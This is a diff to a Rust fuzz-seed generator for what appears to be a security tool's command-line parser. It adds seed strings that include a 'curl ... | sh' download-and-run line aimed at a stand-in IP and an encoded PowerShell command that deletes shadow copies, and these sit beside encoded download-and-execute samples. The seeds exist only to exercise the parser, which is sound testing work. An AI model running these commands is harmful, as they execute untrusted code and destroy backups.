@@ -35,6 +35,14 @@ const TEXT: &[&str] = &[
     r"HKLM\Software\X C:\Windows\System32\cmd.exe /usr/bin/sh d41d8cd98f00b204e9800998ecf8427e",
     "1BoatSLRHtKNngkdXEeobR76b53LETtpyT T1059.001 CVE-2021-44228 00:1a:2b:3c:4d:5e",
 ];
+/// The rules' own examples are the best command lines; these have quotes and blocks.
+const COMMAND_LINES: &[&str] = &[
+    r#""C:\a b\x.exe" "c:\dir\\" "say \"hi\"" a\\\"b"#,
+    r#"sh -c 'echo "a b" | base64 -d; curl http://203.0.113.7/a|sh' \ x"#,
+    "$a=@\"\nx;{\n\"@;if($a){\"b$(c ';)')\"|%{$_};d} # e;f\n<# g #>",
+    "powershell -nop -enc dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzAA==",
+    include_str!("../../src/transform/command_line/rules.json"),
+];
 
 const ENCODED: &[&str] = &[
     "powershell -enc SQBFAFgAIAAoAGkAdwByACAAeAApAA== and H4sIAAAAAAAACg==",
@@ -45,6 +53,8 @@ const ENCODED: &[&str] = &[
     "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQALYSxiCjEseAoyLHkKAEzgt25dEyFzAAEkDKYY2NgftvN9AQAAAAAEWVo=",
     "[char]73+[char]69+[char]88+ [char]32 %3C%73%63%72%69%70%74%3E%31 \\x63\\x6d\\x64\\x2e\\x65\\x78\\x65\\x20",
     "0x4d,0x5a,0x90,0x00, 72,101,108,108,111,32,119,111,114,108,100,33,33",
+];
+
 const OSQUERY: &[&str] = &[
     r#"{"name":"p","hostIdentifier":"h","unixTime":1,"decorations":{"username":"u"},"columns":{"pid":"12","name":"sh","mtime":"7"},"action":"added"}"#,
     r#"{"snapshot":[{"pid":"1"},{"pid":"2"}],"action":"snapshot","name":"p","unixTime":1}"#,
@@ -80,6 +90,9 @@ fn main() -> io::Result<()> {
         for (i, seed) in seeds.iter().enumerate() {
             add(target, &format!("{i}"), seed.as_bytes())?;
         }
+    }
+    for (i, seed) in COMMAND_LINES.iter().enumerate() {
+        add("command_line", &format!("{i}"), &seed.as_bytes()[..seed.len().min(MAX_BYTES)])?;
     }
     for (target, seeds) in [
         ("csv", CSV),
